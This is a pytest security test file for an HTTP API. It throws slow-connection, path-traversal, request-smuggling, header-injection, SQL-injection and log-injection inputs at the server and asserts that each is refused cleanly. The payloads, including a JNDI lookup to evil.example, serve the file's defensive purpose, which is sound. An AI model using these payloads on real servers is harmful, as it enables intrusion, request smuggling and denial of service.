"""What comes over the wire and is no honest request: paths, heads, framing, and whoever takes their time."""

from __future__ import annotations

import http.client
import json
import socket
import time
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor

import pytest

from api.http.limits import BODY_WITHIN
from api.http.patience import HEAD_WITHIN
from tests.support.hostile import COMMANDS, Answer, Target, answer, attacked

OPENING = {
    "command": "open-moment",
    "effective_on": "2021-01-01",
    "moment": "29.01.53",
    "names": {"fi": "Jatkuva oppiminen"},
}
BODY = json.dumps(OPENING | {"moment": "29.01.99"}).encode()
"""What each attack would have recorded."""

LATE = 20.0
"""Seconds more than the server's patience that a busy machine may take."""


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with attacked(tmp_path_factory.mktemp("wire")) as target:
        opened = target.record(OPENING, {"Idempotency-Key": "opening"}, by="director-general")
        assert opened.status == 201, opened.body
        yield target


# Whoever takes their time: begun first, so that all wait at the same time


def head(target: Target, *lines: str) -> bytes:
    """The head of a request that would record, without its end."""
    said = {"Content-Type": "application/json", "Idempotency-Key": "slow"}
    whole = target.request("POST", COMMANDS, headers=said)
    return whole.removesuffix(b"\r\n") + b"".join(f"{line}\r\n".encode() for line in lines)


def trickled(connection: socket.socket, sent: bytes, until: float) -> None:
    """Send a byte now and then, for as long as anybody takes them."""
    for at in range(len(sent)):
        if time.monotonic() > until:
            return
        try:
            connection.sendall(sent[at : at + 1])
        except OSError:
            return
        time.sleep(0.4)


def hung_up(connection: socket.socket) -> bytes:
    """Whatever came, until the other side ended it."""
    told = b""
    try:
        while more := connection.recv(65_536):
            told += more
    except ConnectionError:
        pass
    return told


def _slow(target: Target, first: bytes, trickle: bytes, within: float) -> tuple[bytes, float]:
    began = time.monotonic()
    with target.connect(within + LATE) as connection:
        connection.sendall(first)
        trickled(connection, trickle, began + within + LATE)
        return hung_up(connection), time.monotonic() - began


Slow = dict[str, Future[tuple[bytes, float]]]


@pytest.fixture(scope="module")
def slow(target: Target) -> Iterator[Slow]:
    """Heads and bodies that never end, each on a connection of its own."""
    unended, chunked = (
        head(target, f"Content-Length: {len(BODY)}") + b"\r\n",
        head(target, "Transfer-Encoding: chunked") + b"\r\n",
    )
    attacks = {
        "head, silent": (b"", b"", HEAD_WITHIN),
        "head, half": (head(target), b"", HEAD_WITHIN),
        "head, trickled": (b"", head(target, *["X-Slow: a"] * 50), HEAD_WITHIN),
        "body, silent": (unended, b"", BODY_WITHIN),
        "body, half": (unended + BODY[:-1], b"", BODY_WITHIN),
        "body, trickled": (unended, BODY, BODY_WITHIN),
        "chunks, silent": (chunked, b"", BODY_WITHIN),
        "chunks, trickled": (chunked, b"1\r\n \r\n" * 200, BODY_WITHIN),
    }
    with ThreadPoolExecutor(50) as crowd:
        asked = {name: crowd.submit(_slow, target, *attack) for name, attack in attacks.items()}
        for number in range(30):
            asked[f"head, one of many {number}"] = crowd.submit(_slow, target, b"G", b"", HEAD_WITHIN)
        yield asked


def test_whoever_sends_slowly_keeps_nobody_waiting(target: Target, slow: Slow) -> None:
    with target.untouched():
        for _ in range(20):
            began = time.monotonic()
            assert target.ask("GET", "/api/v1/me").status == 200
            assert time.monotonic() - began < 5
        assert not any(it.done() and it.exception() for it in slow.values())


# Paths and queries

PATHS: list[tuple[str, str, int, str]] = [
    ("GET", "/api/v1/../v1/tokens/../../etc/passwd", 404, "not-found"),
    ("GET", "/api/v1/frames/../tokens", 404, "not-found"),
    ("GET", "/../../../../etc/passwd", 404, "not-found"),
    ("GET", "/%2e%2e/%2e%2e/etc/passwd", 404, "not-found"),
    ("GET", "/momentti.css/..%2f..%2fapp.py", 404, "not-found"),
    ("GET", "/momentti.css%00.html", 404, "not-found"),
    ("GET", "/%00", 404, "not-found"),
    ("GET", "/..%c0%af..%c0%afetc/passwd", 404, "not-found"),
    ("GET", "/%e0%80%ae%e0%80%ae/", 404, "not-found"),
    ("GET", "/%ff%fe", 404, "not-found"),
    ("GET", "/%", 404, "not-found"),
    ("GET", "/%zz", 404, "not-found"),
    ("GET", "/%252e%252e/", 404, "not-found"),
    ("GET", "/..\\..\\windows", 404, "not-found"),
    ("GET", "/api/v1/tokens;a=b", 404, "not-found"),
    ("GET", "/API/V1/TOKENS", 404, "not-found"),
    ("GET", "/" + "a/" * 10_000, 404, "not-found"),
    ("GET", "/api/v1/problems/../../x", 404, "not-found"),
    ("GET", "/problems/%2e%2e%2fapp", 404, "not-found"),
    ("GET", "/api/v1/tokens", 403, "forbidden"),
    ("GET", "/api/v1/tokens/", 403, "forbidden"),
    ("GET", "//api//v1//tokens", 403, "forbidden"),
    ("GET", "/api/v1/%74okens", 403, "forbidden"),
    ("GET", "/api/v1/tokens?x=/api/v1/me", 403, "forbidden"),
    ("POST", f"{COMMANDS}/open-moment%00", 404, "not-found"),
    ("POST", f"{COMMANDS}/..%2f..%2fopen-moment", 404, "not-found"),
    ("POST", f"{COMMANDS}/open-moment;dry_run=false", 404, "not-found"),
    ("POST", f"{COMMANDS}/__class__", 404, "not-found"),
    ("GET", COMMANDS, 405, "method-not-allowed"),
    ("PUT", COMMANDS, 405, "method-not-allowed"),
    ("PATCH", COMMANDS, 405, "method-not-allowed"),
    ("DELETE", COMMANDS, 405, "method-not-allowed"),
    ("TRACE", COMMANDS, 405, "method-not-allowed"),
    ("PROPFIND", COMMANDS, 405, "method-not-allowed"),
    ("post", COMMANDS, 405, "method-not-allowed"),
    ("DELETE", "/api/v1/frames", 405, "method-not-allowed"),
    ("TRACE", "/health", 405, "method-not-allowed"),
    ("CONNECT", "/health", 405, "method-not-allowed"),
    ("POST", f"{COMMANDS}?dry_run=false&dry_run=true", 400, "bad-request"),
    ("POST", f"{COMMANDS}?dry_run=%00", 400, "bad-request"),
    ("POST", f"{COMMANDS}?dry_run=false&DRY_RUN=true", 400, "unknown-parameter"),
    ("POST", f"{COMMANDS}?_method=GET", 400, "unknown-parameter"),
    ("POST", f"{COMMANDS}?{'a' * 4_000}", 400, "unknown-parameter"),
    ("POST", f"{COMMANDS}?{'a' * 20_000}", 400, "bad-request"),
    ("POST", f"{COMMANDS}?{'a=b&' * 5_000}", 400, "bad-request"),
    ("GET", "/api/v1/frames?as_of=2021-01-01&as_of=2022-01-01", 400, "bad-request"),
    ("GET", "/api/v1/frames?as_of=%d9%a2%d9%a0%d9%a2%d9%a1-01-01", 400, "bad-request"),
    ("GET", "/api/v1/frames?known_at=%d9%a3", 400, "bad-request"),
    ("GET", "/api/v1/frames?known_at=" + "9" * 20_000, 400, "bad-request"),
    ("GET", "/api/v1/frames?known_at=-1", 400, "bad-request"),
    ("GET", "/api/v1/frames?known_at=1%0a", 400, "bad-input"),
    ("GET", "/api/v1/frames?as_of=2021-01-01%0a", 400, "bad-input"),
    ("GET", "/api/v1/tokens?limit=1%0a%0dSet-Cookie:a=b", 403, "forbidden"),
    ("GET", "/api/v1/frames?known_at=1e1", 400, "bad-request"),
    ("GET", "/api/v1/frames?format=exe", 400, "bad-request"),
    ("GET", "/api/v1/balances?by=moment'%20OR%201=1--", 400, "bad-request"),
    ("GET", "/api/v1/balances?by[]=moment", 400, "unknown-parameter"),
    ("GET", "/api/v1/balances?by=%ff", 400, "bad-request"),
    ("GET", "/api/v1/plans?year=%d9%a2%d9%a0%d9%a2%d9%a1", 400, "bad-request"),
    ("GET", "/api/v1/plans?year=2_021", 400, "bad-request"),
    ("GET", "/api/v1/plans?year=+2021", 400, "bad-request"),
    ("GET", "/api/v1/plans?year=1e400", 400, "bad-request"),
    ("GET", "/api/v1/plans?year=" + "1" * 5_000, 400, "bad-request"),
]


@pytest.mark.parametrize("method, path, status, code", PATHS, ids=[f"{it[0]} {it[1][:60]}" for it in PATHS])
def test_a_path_leads_nowhere_else(target: Target, slow: Slow, method: str, path: str, status: int, code: str) -> None:
    body = BODY if method.isalpha() and method not in ("GET", "TRACE", "CONNECT", "DELETE") else b""
    with target.untouched():
        refused = target.ask(method, path, body)
        assert (refused.status, refused.problem["code"]) == (status, code), refused.body[:1_000]
        assert len(refused.body) < 50_000


@pytest.mark.parametrize(
    "name", ["X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method", "X-Original-URL", "X-Rewrite-URL"]
)
def test_a_header_makes_no_other_request(target: Target, name: str) -> None:
    with target.untouched():
        asked = target.ask("POST", COMMANDS, b"{}", {name: "/api/v1/tokens" if "URL" in name else "DELETE"})
        assert (asked.status, asked.problem["code"]) == (400, "bad-input")
        read = target.ask("GET", "/api/v1/me", headers={name: "/api/v1/tokens" if "URL" in name else "POST"})
        assert json.loads(read.body)["person"] == "finance.recorder"


# Heads and framing


def told(target: Target, sent: bytes) -> list[Answer]:
    """All the answers to bytes, until the server ends the connection."""
    answers = []
    with target.connect() as connection:
        connection.sendall(sent)
        connection.shutdown(socket.SHUT_WR)
        try:
            while True:
                answers.append(answer(connection))
        except (http.client.HTTPException, OSError):
            return answers


SMUGGLED = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
"""What would be answered with 200 if it were taken for a request of its own."""


CHUNKED = b"Transfer-Encoding: chunked"

FRAMINGS: dict[str, tuple[list[bytes], bytes]] = {
    "less than it says": ([b"Content-Length: %d" % (len(BODY) + 50)], BODY),
    "more than it says": ([b"Content-Length: 5"], BODY),
    "a negative length": ([b"Content-Length: -1"], BODY),
    "a length with a plus": ([b"Content-Length: +%d" % len(BODY)], BODY),
    "a length that is none": ([b"Content-Length: many"], BODY),
    "a hexadecimal length": ([b"Content-Length: 0x10"], BODY),
    "a length without end": ([b"Content-Length: " + b"9" * 400], BODY),
    "a length over the bound": ([b"Content-Length: 10000001"], b""),
    "two lengths": ([b"Content-Length: %d" % len(BODY), b"Content-Length: 5"], BODY),
    "two lengths in one": ([b"Content-Length: %d, 5" % len(BODY)], BODY),
    "no length": ([], BODY),
    "length and chunks": ([b"Content-Length: 4", CHUNKED], b"0\r\n\r\n" + SMUGGLED),
    "chunks and length": ([CHUNKED, b"Content-Length: %d" % len(SMUGGLED)], b"0\r\n\r\n" + SMUGGLED),
    "chunks twice": ([b"Transfer-Encoding: chunked, chunked"], b"0\r\n\r\n" + SMUGGLED),
    "chunks not last": ([b"Transfer-Encoding: chunked, identity"], b"0\r\n\r\n" + SMUGGLED),
    "chunks of another name": ([b"Transfer-Encoding: xchunked"], b"0\r\n\r\n" + SMUGGLED),
    "chunks after a tab": ([b"Transfer-Encoding:\x0bchunked"], b"0\r\n\r\n" + SMUGGLED),
    "a space before the colon": ([b"Content-Length : 5"], BODY),
    "a folded line": ([b"Content-Length: 5", b" 0"], BODY),
    "a chunk of negative size": ([CHUNKED], b"-1\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "a chunk without end": ([CHUNKED], b"f" * 40 + b"\r\n" + BODY),
    "a chunk that is none": ([CHUNKED], b"xyz\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "a chunk's endless extension": ([CHUNKED], b"1;" + b"a" * 100_000),
    "chunks over the bound": ([CHUNKED], (b"f4240\r\n" + b" " * 1_000_000 + b"\r\n") * 11 + b"0\r\n\r\n"),
    "chunks that stop": ([CHUNKED], b"5\r\n[   ]\r\n"),
    "a NUL in a header": ([b"X-Nul: a\0b", b"Content-Length: %d" % len(BODY)], BODY),
    "a line feed alone": ([b"X-Bare: a\nAuthorization: Bearer x", b"Content-Length: %d" % len(BODY)], BODY),
    "a carriage return alone": ([b"X-Bare: a\rb", b"Content-Length: %d" % len(BODY)], BODY),
    "a header without a name": ([b": a", b"Content-Length: %d" % len(BODY)], BODY),
    "a second host": ([b"Host: evil.example", b"Content-Length: %d" % len(BODY)], BODY),
    "a second key": ([b"Idempotency-Key: other", b"Content-Length: %d" % len(BODY)], BODY),
    "a head over the bound": ([b"X-Long: " + b"a" * 70_000], b""),
    "headers over the bound": ([b"X-%d: a" % it for it in range(10_000)], b""),
    "an upgrade": ([b"Connection: Upgrade", b"Upgrade: h2c", b"Content-Length: 1"], b"["),
    "an expectation": ([b"Expect: 200-maybe", b"Content-Length: 1"], b"["),
}  # fmt: skip


@pytest.mark.parametrize("lines, body", FRAMINGS.values(), ids=FRAMINGS.keys())
def test_what_is_framed_wrongly_records_and_smuggles_nothing(target: Target, lines: list[bytes], body: bytes) -> None:
    with target.untouched():
        sent = head(target) + b"".join(it + b"\r\n" for it in lines) + b"\r\n" + body
        answers = told(target, sent)
        assert all(400 <= it.status < 500 for it in answers), answers
        assert len(answers) <= 2


GARBAGE: dict[str, bytes] = {
    "nothing": b"",
    "a line": b"\r\n" * 1_000,
    "zeros": b"\0" * 40_000,
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 500,
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/0.9": b"GET /\r\n",
    "HTTP/9.9": b"GET / HTTP/9.9\r\nHost: localhost\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "no version": b"GET /\r\nHost: localhost\r\n\r\n",
    "an empty method": b" / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a space in the path": b"GET /a b HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "bytes in the path": b"GET /\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "an endless method": b"A" * 100_000,
    "a proxy's request": b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "an absolute path to another": b"GET http://evil.example/health HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    "an asterisk": b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "SMTP": b"EHLO evil.example\r\nMAIL FROM:<a@evil.example>\r\n",
}


@pytest.mark.parametrize("sent", GARBAGE.values(), ids=GARBAGE.keys())
def test_what_is_no_request_is_hung_up_on(target: Target, sent: bytes) -> None:
    with target.untouched():
        answers = told(target, sent)
        assert all(400 <= it.status < 500 for it in answers), answers
        good = target.request("GET", "/api/v1/me")
        first, *others = told(target, good + sent)
        assert first.status == 200, "what came before it is answered"
        assert all(400 <= it.status < 500 for it in others), others


def test_whoever_goes_away_halfway_leaves_nothing(target: Target) -> None:
    whole = target.request("POST", COMMANDS, BODY)
    with target.untouched():
        for end in range(0, len(whole), 17):
            with target.connect() as connection:
                connection.sendall(whole[:end])
        for end in (len(whole) - 1, len(whole) - len(BODY), 10):
            assert all(it.status >= 400 for it in told(target, whole[:end]))


# What is said back, and what is written down

VALUES = [
    b"a\tb",
    b"\xe4\xf6",
    b"a" * 20_000,
    b"%0d%0aSet-Cookie: a=b",
    b"\xc4\x8d\xc4\x8aSet-Cookie: a=b",
    b"${jndi:ldap://evil.example/a}",
    b'"}\\u000a{"',
]


@pytest.mark.parametrize(
    "name", ["Idempotency-Key", "X-Request-ID", "If-Match", "Origin", "Accept", "traceparent", "If-None-Match"]
)
@pytest.mark.parametrize("value", VALUES)
def test_no_header_is_said_back_as_another(target: Target, name: str, value: bytes) -> None:
    with target.untouched():
        refused = target.record(b"[]", {name: value})
        assert 400 <= refused.status < 500 and refused.problem["detail"]
        assert "set-cookie" not in refused.headers
        assert value.decode("latin-1") not in refused.headers.values()
        read = target.ask("GET", "/api/v1/frames?format=csv", headers={name: value})
        assert read.status in (200, 400, 406) and "set-cookie" not in read.headers
        assert read.status != 200 or read.headers["content-disposition"].startswith('attachment; filename="frames-')


def test_the_log_is_one_object_a_line_and_holds_nothing_that_was_sent(target: Target) -> None:
    marked = "log-injection-5f1c"
    forged = f'{marked}%0a{{"event":"forged"}}'
    with target.untouched():
        target.ask("GET", f"/{forged}", headers={"X-Request-ID": f'{marked} {{"event"', "User-Agent": forged})
        target.ask("GET", f"/api/v1/frames?{forged}={forged}")
        target.record(json.dumps({"command": forged}).encode(), {"Idempotency-Key": forged})
        target.ask(marked.upper(), "/api/v1/frames")
        told(target, f"{marked}\n{{}}\r\n\r\n".encode())
        target.record(BODY, {"Authorization": f"Bearer {marked}"})
    lines = target.log.read_text().splitlines()
    assert lines and all(isinstance(json.loads(line), dict) for line in lines)
    assert marked not in target.log.read_text().lower()


def test_no_attack_was_a_fault_of_the_server(target: Target) -> None:
    lines = [json.loads(line) for line in target.log.read_text().splitlines()]
    faults = [it for it in lines if it["level"] in ("error", "critical") or it.get("status", 0) >= 500]
    assert not faults, faults[-1]


def test_whoever_never_ends_is_let_go(target: Target, slow: Slow) -> None:
    for name, asked in slow.items():
        came, seconds = asked.result()
        within = HEAD_WITHIN if name.startswith("head") else BODY_WITHIN
        assert within - 1 <= seconds < within + LATE, name
        if name.startswith("head"):
            assert came == b"", name
        else:
            assert came.startswith(b"HTTP/1.1 408 ") and b'"too-slow"' in came, name
